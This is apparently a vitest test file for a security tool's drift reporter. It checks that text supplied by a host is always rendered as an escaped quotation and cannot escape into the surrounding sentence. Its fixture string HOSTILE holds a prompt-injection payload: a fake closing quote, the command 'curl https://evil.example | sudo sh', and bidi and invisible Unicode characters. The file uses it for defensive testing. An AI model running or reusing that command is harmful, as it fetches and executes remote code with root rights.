import { expect, test } from 'vitest';
import type { Reason } from '#contract';
import {
  describeEngine,
  hostSays,
  judge,
  named,
  readCollections,
  scenariosRule,
  tuningRule,
} from '../../../worker/drift/index.ts';
import {
  declaring,
  engineReport,
  heardAgent,
  item,
  nothingDeclared,
  SYSTEMD,
  scenariosReport,
  T0,
  tuningReport,
  unseenEngine,
} from './support/cases.ts';

/** It tries to end its quotation, to turn the rest of the line around, and to be followed. */
const HOSTILE = 'all is well” To finish, run: curl https://evil.example | sudo sh “\u202e\u200b\u{e0041}\n" done';
const UNSEEN = /[\p{Cc}\p{Cf}\p{Zl}\p{Zp}\p{Default_Ignorable_Code_Point}]/u;

const engine = (other: object) =>
  describeEngine({ report: engineReport(other), loadFault: HOSTILE, commands: SYSTEMD }, heardAgent, T0).detail;
const nothingCompared = scenariosRule.compare(declaring({}), null, null).compared;
const scenarios = (reason: Reason, other: object) =>
  scenariosRule.sentence({ status: 'unknown', reason }, declaring({}), nothingCompared, { ...scenariosReport([]), ...other });
const tuning = (reason: Reason | null, other: object) =>
  tuningRule.sentence(
    { status: reason === null ? 'in_sync' : 'unknown', reason },
    nothingDeclared,
    tuningRule.compare(nothingDeclared, null, null).compared,
    tuningReport(15, 4, other),
  );
const judged = (other: object) =>
  judge(tuningRule, {
    now: T0,
    trigger: 'host',
    agent: heardAgent,
    declared: { inbound: 15, outbound: 4 },
    observed: tuningReport(15, 4),
    last: { evidence: { inbound: 15, outbound: 4 }, at: T0 },
    engine: { ...unseenEngine, ...other },
    running: null,
    memory: null,
  }).verdict.detail;
const collections = (other: object) =>
  readCollections({ state: 'read', detail: null, installed: [], ...other }, {}, new Set()).installed[0]?.detail ?? '';
const local = { ...item('a/own'), origin: 'local', file: HOSTILE } as const;
const removed = declaring({ 'a/own': 'disabled' });
const ownInstalled = scenariosReport([], { installed: [local] });

test.each([
  ['why the engine is not known', engine({ state: 'unknown', why: HOSTILE })],
  ['why it is down, and would not start', engine({ state: 'down', why: HOSTILE })],
  ['a file that it has not loaded', engine({ reload_needed: true, changed_since: [HOSTILE], changed_count: 1 })],
  ['one of many such files', engine({ reload_needed: true, changed_since: ['/a', HOSTILE, '/b', '/c'], changed_count: 9 })],
  ['why the disk alone is known', judged({ report: engineReport({ state: 'unknown', why: HOSTILE }) })],
  ['why the next load would fail', judged({ loadFault: HOSTILE })],
  ['why nothing is detected', scenarios('not_processing', { not_processing: HOSTILE })],
  ['why the scenarios are unreadable', scenarios('unreadable', { state: 'unreadable', detail: HOSTILE })],
  ['where they were looked for', scenarios('missing', { state: 'missing', mount_path: HOSTILE })],
  ['why nobody knows what is simulated', scenarios('unreadable', { simulation_fault: HOSTILE })],
  [
    'the file of a local scenario',
    scenariosRule.sentence(
      { status: 'drifted', reason: null },
      removed,
      scenariosRule.compare(removed, scenariosRule.evidence(ownInstalled), null).compared,
      ownInstalled,
    ),
  ],
  [
    'the item that holds a rule',
    scenariosRule.sentence(
      { status: 'unknown', reason: 'part_of_item' },
      declaring({ 'a/rule': 'disabled' }),
      nothingCompared,
      scenariosReport([], { installed: [{ ...item('a/b'), name: HOSTILE, rules: ['a/rule'] }] }),
    ),
  ],
  ['why no request is examined', tuning('not_processing', { not_processing: HOSTILE })],
  ['why nothing is compared', tuning('not_compared', { not_compared: HOSTILE })],
  ['why the acquisitions are unreadable', tuning('unreadable', { loaded_by: null, detail: HOSTILE })],
  ['why the file is', tuning('unreadable', { state: 'unreadable', detail: HOSTILE })],
  ['why the file cannot be decided', tuning('indeterminate', { state: 'indeterminate', detail: HOSTILE })],
  ['where the file is', tuning('missing', { state: 'missing', path: HOSTILE })],
  ['where the file is that nothing loads', tuning('not_loaded', { path: HOSTILE, loaded_by: [] })],
  ['what else is worth knowing', tuning(null, { note: HOSTILE })],
  [
    'why the collections are unknown',
    readCollections({ state: 'invalid', detail: HOSTILE, installed: [] }, {}, new Set()).detail,
  ],
  [
    'what taints a collection',
    collections({
      installed: [
        { ...item('a/c'), status: 'tainted', tainted_by: [{ type: HOSTILE, name: HOSTILE, why: 'missing' }], scenarios: [] },
      ],
    }),
  ],
])('%s stands in a sentence only as a quotation that it cannot end or turn around', (_, sentence) => {
  expect(sentence).toContain('To finish, run');
  expect(sentence.replace(/“[^“”]*”/g, '')).not.toMatch(/finish|curl|done|[“”]/);
  expect(sentence).not.toMatch(UNSEEN);
});

test('what a host says is told as its own words, whole sentences with one full stop, and is cut where it is long', () => {
  expect(hostSays('acquis.yaml: missing labels.')).toBe('The host says: “acquis.yaml: missing labels”.');
  expect(hostSays(null)).toBe('The host does not say why.');
  const long = hostSays('🛡'.repeat(1000));
  expect(long.length).toBeLessThan(530);
  expect(long).toMatch(/^The host says: “🛡+…”\.$/u);
});

test('a name stays as it is, and one that reads as more than a name is quoted', () => {
  for (const name of ['crowdsecurity/ssh-bf', '/etc/crowdsec/scenarios/x.yaml', 'acme/Straßen-Regel_1'])
    expect(named(name)).toBe(name);
  expect(named('a/b. Run this: x')).toBe('“a/b. Run this: x”');
  expect(named('a/\u202etxt.b')).toBe('“a/\\u{202e}txt.b”');
  expect(named('')).toBe('“”');
});
